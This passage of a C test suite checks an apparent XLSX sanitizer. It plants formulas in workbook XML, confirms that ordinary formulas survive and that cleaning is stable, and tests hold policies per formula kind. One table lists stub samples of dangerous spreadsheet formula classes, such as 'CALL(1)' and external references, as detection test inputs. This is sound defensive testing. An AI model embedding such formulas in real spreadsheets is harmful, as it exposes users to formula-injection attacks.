    const char *snippets[FORGE_PLACES] = {NULL};
    g_autofree char *snippet = plant(site->snippet, formula);
    snippets[site->place] = snippet;
    g_auto(Cleaned) got = clean(snippets, NULL);
    gboolean gone = strcmp(site->name, "unknown extension") == 0;
    ck_assert_msg(got.ok, "%s: not crossed: %s", site->name, got.error);
    ck_assert_msg(gone || strstr(got.text, formula), "%s: lost its formula: %s", site->name, got.text);
    for (guint kind = MGK_KIND_FORMULA_DANGEROUS; kind <= MGK_KIND_FORMULA_LINK; kind++)
        ck_assert_msg(!fake_run_found(got.run, (MgkKind)kind), "%s: finding %s", site->name,
                      mgk_kind_info((MgkKind)kind)->name);
}
END_TEST

/* What is cleaned once has nothing left to clean, and comes out the same. */
START_TEST(test_xlsx__cleaning_again_changes_nothing)
{
    const Site *site = &sites[_i];
    const char *snippets[FORGE_PLACES] = {NULL};
    g_autofree char *snippet = plant(site->snippet, "Data!$A$2+[1]X!A1");
    snippets[site->place] = snippet;
    g_auto(Cleaned) first = clean(snippets, NULL);
    ck_assert_msg(first.ok, "%s: %s", site->name, first.error);
    g_autoptr(FakeRun) again = fake_run_new();
    g_autoptr(GError) error = NULL;
    ck_assert_msg(
        fake_run_clean(again, first.run->output->data, first.run->output->len, "a.xlsx", MGK_FORMAT_ID_NONE, &error),
        "%s: %s", site->name, error ? error->message : "");
    ck_assert_msg(again->output->len == first.run->output->len &&
                      memcmp(again->output->data, first.run->output->data, again->output->len) == 0,
                  "%s: other bytes", site->name);
}
END_TEST

START_TEST(test_xlsx__the_policy_may_hold_what_a_formula_does)
{
    static const struct {
        MgkKind kind;
        const char *formula;
    } rows[] = {{MGK_KIND_FORMULA_DANGEROUS, "CALL(1)"},
                {MGK_KIND_FORMULA_UNKNOWN, "Vba(1)"},
                {MGK_KIND_FORMULA_EXTERNAL, "[1]S!A1"},
                {MGK_KIND_FORMULA_LINK, "HYPERLINK(A1)"}};
    for (gsize i = 0; i < G_N_ELEMENTS(rows); i++) {
        const char *snippets[FORGE_PLACES] = {NULL};
        g_autofree char *snippet = plant("<c r=\"B2\"><f>%s</f><v>42</v></c>", rows[i].formula);
        snippets[FORGE_CELLS] = snippet;
        g_autoptr(GByteArray) book = forge_workbook(snippets, NULL);
        g_autoptr(FakeRun) run = fake_run_new();
        run->policy.actions[rows[i].kind] = MGK_ACTION_HOLD;
        ck_assert(fake_run_clean(run, book->data, book->len, "a.xlsx", MGK_FORMAT_ID_NONE, NULL));
        ck_assert_msg(run->outcome.verdict == MGK_VERDICT_HELD, "%s: verdict %d", rows[i].formula,
                      (int)run->outcome.verdict);
    }
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("xlsx");
    TCase *tc = tcase_create("xlsx");
    tcase_set_timeout(tc, 60);
    tcase_add_loop_test(tc, test_xlsx__no_attack_crosses_from_any_site, 0, G_N_ELEMENTS(sites));
    tcase_add_loop_test(tc, test_xlsx__no_construction_crosses, 0, G_N_ELEMENTS(plants));
    tcase_add_loop_test(tc, test_xlsx__ordinary_formulas_stay_in_every_site, 0, G_N_ELEMENTS(sites));
    tcase_add_loop_test(tc, test_xlsx__cleaning_again_changes_nothing, 0, G_N_ELEMENTS(sites));
    tcase_add_test(tc, test_xlsx__the_policy_may_hold_what_a_formula_does);
    suite_add_tcase(suite, tc);
    SRunner *runner = srunner_create(suite);
    srunner_run_all(runner, CK_NORMAL);
    int failed = srunner_ntests_failed(runner);
    srunner_free(runner);
    return failed != 0;
}
